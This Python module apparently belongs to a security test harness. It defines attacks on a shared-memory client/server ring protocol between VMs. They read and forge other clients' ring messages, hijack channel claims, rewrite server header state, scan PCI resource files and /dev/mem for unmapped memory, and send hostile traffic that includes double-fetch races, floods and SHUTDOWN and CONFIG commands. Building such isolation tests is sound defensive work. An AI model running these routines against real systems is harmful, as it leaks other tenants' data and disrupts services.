"""The attacks. Each runs for a bounded time against one region's view and returns what it
tried, as the attacker saw it; what succeeded is measured elsewhere (watch.py on the host,
the honest client's own report, the server over TCP), never from this report alone.

Targets: every channel group other than the attacker's own (the honest client's and any
other VM's). The attacker's own group is its own: writing it is allowed and only the
`hostile` and `own-server` attacks use it.
"""

from __future__ import annotations

import hashlib
import os
import random
import struct
import time
from dataclasses import dataclass, field

from . import layout as L
from .markers import Markers
from .view import View

ATTACKS = {
    "read": "read another client's request and response bytes",
    "inject": "inject a request (SET of a marker key) into another client's request ring",
    "forge": "forge responses (right id, false value) in another client's response ring",
    "header": "rewrite the server's epoch, heartbeat and state in the header",
    "claim": "claim another client's channels (write claim tokens, keep them alive)",
    "probe": "look for unmapped segments: PCI config space, sysfs resource files, /dev/mem",
    "own-server": "write the server side of its own channels (ack token, response data)",
    "hostile": "hostile and double-fetch traffic on its own channels",
}
# The control neighbour: burns the same CPU as an attack and touches nothing shared.
CONTROL = "control"


class Loot:
    """Bytes read from places that are not the attacker's own: bounded, non-zero, deduplicated."""

    def __init__(self, cap: int = 8 << 20) -> None:
        self.cap = cap
        self.size = 0
        self.chunks: list[bytes] = []
        self._seen: set[bytes] = set()
        self.sources: dict[str, int] = {}

    def add(self, source: str, data: bytes | None) -> None:
        if not data or self.size >= self.cap or not data.strip(b"\0"):
            return
        h = hashlib.blake2b(data, digest_size=16).digest()
        if h in self._seen:
            return
        self._seen.add(h)
        data = data[: self.cap - self.size]
        self.chunks.append(data)
        self.size += len(data)
        self.sources[source] = self.sources.get(source, 0) + len(data)

    def write(self, path: str) -> None:
        with open(path, "wb") as f:
            for c in self.chunks:
                f.write(c)
                f.write(b"\0" * 8)


@dataclass
class Ctx:
    view: View
    mode: str
    group: int  # the attacker's own channel group
    markers: Markers
    seconds: float
    loot: Loot = field(default_factory=Loot)
    views_dir: str = "/dev/cxl"  # every region view of this VM (probe: what is "granted")
    sysfs: str = "/sys/bus/pci/devices"
    devmem: str = "/dev/mem"
    attempted: int = 0  # forged writes issued (stores through a writable mapping)
    notes: list[str] = field(default_factory=list)
    details: dict = field(default_factory=dict)

    @property
    def header(self) -> L.Header:
        return self.view.header

    def deadline(self) -> float:
        return time.monotonic() + self.seconds

    def foreign_groups(self) -> list[int]:
        return [
            s.group
            for s in self.header.segments
            if s.kind == L.KIND_CLIENT and s.group != self.group
        ]

    def note(self, text: str) -> None:
        if text not in self.notes:
            self.notes.append(text)

    def reach(self) -> dict[str, str]:
        """How the attacker maps each segment: rw, ro or unmapped (why)."""
        out = {}
        for s in self.header.segments:
            if self.view.has(s.name):
                out[s.name] = "rw" if self.view.writable(s.name) else "ro"
            else:
                out[s.name] = "unmapped: " + self.view.missing.get(s.name, "?")
        return out


# ---- ring helpers ----------------------------------------------------------------------------


def ring_read(view: View, seg: str, data_off: int, size: int, pos: int, n: int) -> bytes | None:
    """n bytes of a ring's stream at position pos (wraps); None when unmapped."""
    start = pos & (size - 1)
    first = min(n, size - start)
    a = view.read(seg, data_off + start, first)
    if a is None:
        return None
    if first == n:
        return a
    b = view.read(seg, data_off, n - first)
    return None if b is None else a + b


def ring_write(view: View, seg: str, data_off: int, size: int, pos: int, msg: bytes) -> bool:
    start = pos & (size - 1)
    first = min(len(msg), size - start)
    ok = view.write(seg, data_off + start, msg[:first])
    if ok and first < len(msg):
        ok = view.write(seg, data_off, msg[first:])
    return ok


# ---- the attacks -----------------------------------------------------------------------------


def attack_read(ctx: Ctx) -> None:
    """Watch every producer index of the other groups' rings and copy each message the moment
    it is published (the owner scrubs it once it is answered, so the window is the round
    trip); when the time is up, dump every non-zero page of those segments once."""
    h, v = ctx.header, ctx.view
    names = [f"{k}-{g}" for g in ctx.foreign_groups() for k in ("client", "server")]
    for name in names:
        if not v.has(name):
            ctx.note(f"{name}: unmapped, nothing to read")
    rings = []  # (segment, section offset, ring size, producer index offset)
    for g in ctx.foreign_groups():
        for ch in h.channels_of(g):
            cseg, coff = h.client_section(ch)
            sseg, soff = h.server_section(ch)
            rings.append((cseg, coff, h.req_ring_size, L.OFF_REQ_HEAD))
            rings.append((sseg, soff, h.resp_ring_size, L.OFF_RESP_HEAD))
    rings = [r for r in rings if v.has(r[0])]
    last = {r: v.u64(r[0], r[1] + r[3]) for r in rings}
    width = min(64 << 10, h.req_ring_size, h.resp_ring_size)
    end = ctx.deadline()
    passes = caught = 0
    while rings and time.monotonic() < end and ctx.loot.size < ctx.loot.cap:
        for r in rings:
            seg, sec, size, index_off = r
            head = v.u64(seg, sec + index_off)
            if head is None or head == last[r]:
                continue
            n = min((head - last[r]) & ((1 << 64) - 1), width)
            last[r] = head
            data = ring_read(v, seg, sec + L.CONTROL_SIZE, size, head - n, n)
            if data and data.strip(b"\0"):
                caught += 1
                ctx.loot.add(seg, data)
        passes += 1
    for name in names:
        if v.has(name):
            seg = h.segment(name)
            for off in range(0, seg.size, 4096):
                ctx.loot.add(name, v.read(name, off, 4096))
    ctx.details["passes"] = passes
    ctx.details["messages_caught"] = caught


def attack_inject(ctx: Ctx) -> None:
    """Write SET <marker key> at the producer position of every other client's request ring,
    tagged with that channel's current generation, and publish it."""
    h, v = ctx.header, ctx.view
    key = ctx.markers.inject_key()
    end = ctx.deadline()
    while time.monotonic() < end:
        for g in ctx.foreign_groups():
            if not v.writable(f"client-{g}"):
                ctx.note(f"client-{g}: not mapped writable, no request can be written")
                continue
            for ch in h.channels_of(g):
                cseg, coff = h.client_section(ch)
                sseg, soff = h.server_section(ch)
                gen = v.u32(sseg, soff + L.OFF_SESSION_GEN) or 0
                head = v.u64(cseg, coff + L.OFF_REQ_HEAD) or 0
                msg = L.encode_request(
                    L.OP_SET, [key, ctx.markers.raw("inject-value", 16)], (gen << 32) | 0xFFFFFF00
                )
                if ring_write(v, cseg, coff + L.CONTROL_SIZE, h.req_ring_size, head, msg):
                    v.put_u64(cseg, coff + L.OFF_REQ_HEAD, head + len(msg))
                    ctx.attempted += 1
        time.sleep(0.05)


def attack_forge(ctx: Ctx) -> None:
    """Write an OK response carrying a false value, with the id of the next request in
    flight, at the server's producer position of every other client's response ring."""
    h, v = ctx.header, ctx.view
    payload = ctx.markers.text("forged")
    end = ctx.deadline()
    while time.monotonic() < end:
        for g in ctx.foreign_groups():
            if not v.writable(f"server-{g}"):
                ctx.note(f"server-{g}: not mapped writable, no response can be written")
                continue
            for ch in h.channels_of(g):
                cseg, coff = h.client_section(ch)
                sseg, soff = h.server_section(ch)
                gen = v.u32(sseg, soff + L.OFF_SESSION_GEN) or 0
                tail = v.u64(sseg, soff + L.OFF_REQ_TAIL) or 0
                req = ring_read(v, cseg, coff + L.CONTROL_SIZE, h.req_ring_size, tail, 16)
                rid = L.MSG_HEADER.unpack(req)[4] if req else (gen << 32) | 1
                head = v.u64(sseg, soff + L.OFF_RESP_HEAD) or 0
                msg = L.encode_response(L.ST_OK, rid, payload)
                if ring_write(v, sseg, soff + L.CONTROL_SIZE, h.resp_ring_size, head, msg):
                    v.put_u64(sseg, soff + L.OFF_RESP_HEAD, head + len(msg))
                    ctx.attempted += 1
        time.sleep(0.01)


def attack_header(ctx: Ctx) -> None:
    """Keep rewriting server_epoch, server_heartbeat and server_state with marker values;
    put back the epoch and state found at the start when done."""
    v, m = ctx.view, ctx.markers
    if not v.writable("header"):
        ctx.note("header: not mapped writable (the guest refused a writable mapping, even to root)")
        return
    epoch, state = v.u64("header", L.OFF_SERVER_EPOCH), v.u32("header", L.OFF_SERVER_STATE)
    end = ctx.deadline()
    while time.monotonic() < end:
        v.put_u64("header", L.OFF_SERVER_EPOCH, m.u64("epoch"))
        v.put_u64("header", L.OFF_SERVER_HEARTBEAT, m.u64("heartbeat"))
        v.put_u32("header", L.OFF_SERVER_STATE, m.u32("state"))
        ctx.attempted += 3
        time.sleep(0.001)
    v.put_u64("header", L.OFF_SERVER_EPOCH, epoch)
    v.put_u32("header", L.OFF_SERVER_STATE, state)
    seen = v.u64("header", L.OFF_SERVER_EPOCH)
    ctx.details["epoch_restored"] = seen == epoch


def attack_claim(ctx: Ctx) -> None:
    """Write a marker claim token into every channel of the other groups and keep its
    heartbeat moving, so that the server acknowledges the attacker instead of their owner."""
    h, v = ctx.header, ctx.view
    token = ctx.markers.u64("claim-token")
    taken: list[tuple[str, int]] = []
    end = ctx.deadline()
    beat = 1
    acked: set[int] = set()
    while time.monotonic() < end:
        for g in ctx.foreign_groups():
            if not v.writable(f"client-{g}"):
                ctx.note(f"client-{g}: not mapped writable, no channel can be claimed")
                continue
            for ch in h.channels_of(g):
                cseg, coff = h.client_section(ch)
                if v.u64(cseg, coff + L.OFF_CLAIM_TOKEN) != token:
                    v.put_u64(cseg, coff + L.OFF_CLAIM_TOKEN, token)
                    ctx.attempted += 1
                    if (cseg, coff) not in taken:
                        taken.append((cseg, coff))
                v.put_u64(cseg, coff + L.OFF_CLIENT_HEARTBEAT, beat)
                sseg, soff = h.server_section(ch)
                if v.u64(sseg, soff + L.OFF_ACK_TOKEN) == token:
                    acked.add(ch)
        beat += 1
        time.sleep(0.02)
    for cseg, coff in taken:  # release what is still ours
        if v.u64(cseg, coff + L.OFF_CLAIM_TOKEN) == token:
            v.put_u64(cseg, coff + L.OFF_CLAIM_TOKEN, 0)
    ctx.details["channels_acked_to_attacker"] = sorted(acked)


def attack_own_server(ctx: Ctx) -> None:
    """Write ack_token and response bytes of the attacker's own channels (the server's side)."""
    h, v = ctx.header, ctx.view
    seg = f"server-{ctx.group}"
    if not v.writable(seg):
        ctx.note(f"{seg}: not mapped writable")
        return
    ack, data = ctx.markers.u64("own-ack"), ctx.markers.text("own-response")
    end = ctx.deadline()
    while time.monotonic() < end:
        for ch in h.channels_of(ctx.group):
            _, soff = h.server_section(ch)
            v.put_u64(seg, soff + L.OFF_ACK_TOKEN, ack)
            v.write(seg, soff + L.CONTROL_SIZE + 4096, data)
            ctx.attempted += 2
        time.sleep(0.005)


# ---- probe: looking for what is not mapped --------------------------------------------------

IVSHMEM = ("0x1af4", "0x1110")


def _granted_sources(views_dir: str) -> set[str]:
    out: set[str] = set()
    try:
        entries = os.listdir(views_dir)
    except OSError:
        return out
    for e in entries:
        p = os.path.join(views_dir, e)
        if os.path.isdir(p):
            for f in os.listdir(p):
                out.add(os.path.realpath(os.path.join(p, f)))
        else:
            out.add(os.path.realpath(p))
    return out


def _read_text(path: str) -> str:
    try:
        with open(path) as f:
            return f.read().strip()
    except OSError:
        return ""


def _dump_file(ctx: Ctx, path: str, size: int, offset: int = 0) -> str:
    """Map (else read) a file the view does not hold and loot it; returns what happened."""
    import mmap

    try:
        fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
    except OSError as e:
        return f"open refused ({e.strerror})"
    try:
        n = size - size % mmap.PAGESIZE
        try:
            mm = mmap.mmap(fd, n, mmap.MAP_SHARED, access=mmap.ACCESS_READ, offset=offset)
        except (OSError, ValueError) as e:
            return f"mmap refused ({e})"
        with mm:
            got = 0
            for off in range(0, min(n, 64 << 20), 4096):
                page = mm[off : off + 4096]
                if page.strip(b"\0"):
                    ctx.loot.add(path, page)
                    got += 1
        return f"mapped {n} bytes, {got} non-zero pages"
    finally:
        os.close(fd)


def attack_probe(ctx: Ctx) -> None:
    """Walk every PCI device: ivshmem devices' config space, resource files and BAR
    addresses through /dev/mem; then the directories the view's files point into."""
    granted = _granted_sources(ctx.views_dir) | ctx.view.sources()
    found: list[dict] = []
    try:
        devices = sorted(os.listdir(ctx.sysfs))
    except OSError:
        devices = []
        ctx.note(f"{ctx.sysfs}: not readable")
    for d in devices:
        base = os.path.join(ctx.sysfs, d)
        ids = (_read_text(f"{base}/vendor"), _read_text(f"{base}/device"))
        if ids != IVSHMEM:
            continue
        try:
            with open(f"{base}/config", "rb") as f:
                config = f.read(256)
        except OSError:
            config = b""
        bars = []
        for i, line in enumerate(_read_text(f"{base}/resource").splitlines()[:6]):
            start, stop, _flags = (int(x, 16) for x in line.split())
            if stop:
                bars.append((i, start, stop - start + 1))
        entry = {
            "device": d,
            "config_bytes": len(config),
            "bars": [[i, hex(s), n] for i, s, n in bars],
        }
        for i, start, n in bars:
            res = os.path.realpath(f"{base}/resource{i}")
            if i != 2:
                continue
            if res in granted:
                entry["resource2"] = "granted to this VM (in its view)"
                continue
            entry["resource2"] = _dump_file(ctx, res, n)
            entry["devmem"] = _dump_file(ctx, ctx.devmem, n, start)
            ctx.details.setdefault("ungranted_devices", []).append(d)
        found.append(entry)
    ctx.details["ivshmem_devices"] = found
    # A secdsm view's files are links (sysfs resource files in a guest, the region's own
    # files on one host): try the other files next to their targets. (An off view maps the
    # whole region already.)
    tried = {}
    for src in sorted(ctx.view.sources()) if ctx.view.form == "dir" else []:
        folder = os.path.dirname(src)
        try:
            names = os.listdir(folder)
        except OSError as e:
            tried[folder] = f"not listable ({e.strerror})"
            continue
        for name in sorted(names)[:64]:
            p = os.path.join(folder, name)
            if p in granted or not os.path.isfile(p) or name in ("config", "rom"):
                continue
            if name.startswith("resource") and not name.startswith("resource2"):
                continue  # BAR0 registers and the resource table: no region bytes there
            size = os.path.getsize(p)
            if size >= 4096:
                tried[p] = _dump_file(ctx, p, size)
    ctx.details["neighbours"] = tried


# ---- hostile traffic on its own channels ----------------------------------------------------


class RawChannel:
    """The attacker's own channel, driven by hand (docs/ring-protocol.md 3 and 5)."""

    def __init__(self, view: View, ch: int) -> None:
        h = view.header
        self.v, self.h, self.ch = view, h, ch
        self.cseg, self.coff = h.client_section(ch)
        self.sseg, self.soff = h.server_section(ch)
        self.token = 0
        self.gen = 0
        self.head = 0
        self.tail = 0
        self.beats = 0

    def beat(self) -> None:
        self.beats += 1
        self.v.put_u64(self.cseg, self.coff + L.OFF_CLIENT_HEARTBEAT, self.beats)

    def claim(self, timeout: float = 5.0) -> bool:
        self.token = random.getrandbits(64) | 1
        self.v.put_u64(self.cseg, self.coff + L.OFF_CLAIM_TOKEN, self.token)
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            self.beat()
            if self.v.u64(self.sseg, self.soff + L.OFF_ACK_TOKEN) == self.token:
                self.gen = self.v.u32(self.sseg, self.soff + L.OFF_SESSION_GEN) or 0
                self.head = self.v.u64(self.cseg, self.coff + L.OFF_REQ_HEAD) or 0
                self.tail = self.v.u64(self.cseg, self.coff + L.OFF_RESP_TAIL) or 0
                return True
            time.sleep(0.005)
        return False

    def release(self) -> None:
        if self.v.u64(self.cseg, self.coff + L.OFF_CLAIM_TOKEN) == self.token:
            self.v.put_u64(self.cseg, self.coff + L.OFF_CLAIM_TOKEN, 0)

    def put(self, msg: bytes, publish: bool = True) -> int:
        pos = self.head
        ring_write(self.v, self.cseg, self.coff + L.CONTROL_SIZE, self.h.req_ring_size, pos, msg)
        self.head += len(msg)
        if publish:
            self.v.put_u64(self.cseg, self.coff + L.OFF_REQ_HEAD, self.head)
        return pos

    def request(self, op: int, args: list[bytes], seq: int, **kw) -> int:
        return self.put(L.encode_request(op, args, (self.gen << 32) | seq, **kw))

    def responses(self, want: int, timeout: float = 2.0) -> list[tuple[int, int, bytes]]:
        """Up to `want` responses (status, id, payload), bounded by timeout."""
        out = []
        end = time.monotonic() + timeout
        while len(out) < want and time.monotonic() < end:
            self.beat()
            head = self.v.u64(self.sseg, self.soff + L.OFF_RESP_HEAD) or 0
            if head == self.tail:
                time.sleep(0.002)
                continue
            if head - self.tail > self.h.resp_ring_size:
                break
            hdr = ring_read(
                self.v, self.sseg, self.soff + L.CONTROL_SIZE, self.h.resp_ring_size, self.tail, 16
            )
            n, status, _f, _a, rid = L.MSG_HEADER.unpack(hdr)
            if n < 16 or n > head - self.tail:
                break
            body = (
                ring_read(
                    self.v,
                    self.sseg,
                    self.soff + L.CONTROL_SIZE,
                    self.h.resp_ring_size,
                    self.tail + 16,
                    n - 16,
                )
                if n > 16
                else b""
            )
            self.tail += L.align8(n)
            self.v.put_u64(self.cseg, self.coff + L.OFF_RESP_TAIL, self.tail)
            out.append((status, rid, body or b""))
        return out

    def state(self) -> int:
        return self.v.u32(self.sseg, self.soff + L.OFF_CHAN_STATE) or 0


def attack_hostile(ctx: Ctx) -> None:
    """On its own channels: malformed requests, an unframed stream, a message rewritten while
    the server reads it (double fetch), a stale generation, commands the ring refuses, a
    garbage resp_tail and a full ring never read. Every step bounded; repeated until time."""
    v = ctx.view
    seg = f"client-{ctx.group}"
    if not v.writable(seg):
        ctx.note(f"{seg}: not mapped writable, the attacker has no channel of its own")
        return
    channels = list(ctx.header.channels_of(ctx.group))
    log: dict[str, int] = {}
    end = ctx.deadline()

    def step(name: str) -> None:
        log[name] = log.get(name, 0) + 1

    rounds = 0
    while time.monotonic() < end:
        c = RawChannel(v, channels[rounds % len(channels)])
        rounds += 1
        if not c.claim():
            step("claim timed out")
            time.sleep(0.2)
            continue
        c.request(L.OP_PING, [], 1)
        c.request(99, [b"x"], 2)  # unknown op
        c.request(L.OP_GET, [b"a", b"b"], 3)  # bad argc for GET
        c.request(L.OP_SET, [b"k"], 4, argc=7)  # argc lies
        for i, argv in enumerate(
            (
                [b"MONITOR"],
                [b"CLIENT", b"LIST"],
                [b"DEBUG", b"SLEEP", b"0"],
                [b"SHUTDOWN", b"NOSAVE"],
                [b"CONFIG", b"SET", b"maxmemory", b"1"],
            )
        ):
            c.request(L.OP_CMD, argv, 10 + i)
        step(f"answered {len(c.responses(9))}/9 malformed and refused requests")
        # Double fetch: publish a SET, then keep flipping its length and argc while the
        # server may be reading it.
        pos = c.request(L.OP_SET, [b"attack-df", b"v" * 64], 20)
        flip_end = time.monotonic() + 0.05
        data = c.coff + L.CONTROL_SIZE
        while time.monotonic() < flip_end:
            ring_write(v, seg, data, ctx.header.req_ring_size, pos, struct.pack("<I", 0xFFFFFFF0))
            ring_write(v, seg, data, ctx.header.req_ring_size, pos + 6, struct.pack("<H", 999))
            ring_write(
                v, seg, data, ctx.header.req_ring_size, pos, struct.pack("<I", 16 + 8 + 9 + 64)
            )
            ring_write(v, seg, data, ctx.header.req_ring_size, pos + 6, struct.pack("<H", 2))
        c.responses(1, 0.5)
        step("double fetch")
        # A stale generation: a request tagged with the previous session's generation.
        old = c.gen
        c.release()
        if c.claim():
            c.put(L.encode_request(L.OP_SET, [b"attack-stale", b"x"], (old << 32) | 1))
            c.responses(1, 0.5)
            step("stale generation")
        # An unframed stream: len 3.
        if c.claim():
            c.put(struct.pack("<IBBHQ", 3, L.OP_PING, 0, 0, (c.gen << 32) | 1))
            c.responses(1, 0.5)
            step("unframed stream")
        # Never read: fill the request ring with SETs, then a garbage resp_tail.
        if c.claim():
            big = b"z" * 4096
            for i in range(min(256, ctx.header.req_ring_size // 8192)):
                c.request(L.OP_SET, [b"attack-flood-%d" % i, big], 100 + i)
                c.beat()
            v.put_u64(c.cseg, c.coff + L.OFF_RESP_TAIL, 0xDEADBEEF00000000)
            time.sleep(0.05)
            step("flood and garbage resp_tail")
        c.release()
    ctx.details["steps"] = log


def control(ctx: Ctx) -> None:
    """Burn one CPU for the same time as an attack; touch nothing shared."""
    end = ctx.deadline()
    x = 0
    while time.monotonic() < end:
        for i in range(10000):
            x ^= i * 2654435761
    ctx.details["burned"] = True


RUN = {
    "read": attack_read,
    "inject": attack_inject,
    "forge": attack_forge,
    "header": attack_header,
    "claim": attack_claim,
    "probe": attack_probe,
    "own-server": attack_own_server,
    "hostile": attack_hostile,
    CONTROL: control,
}
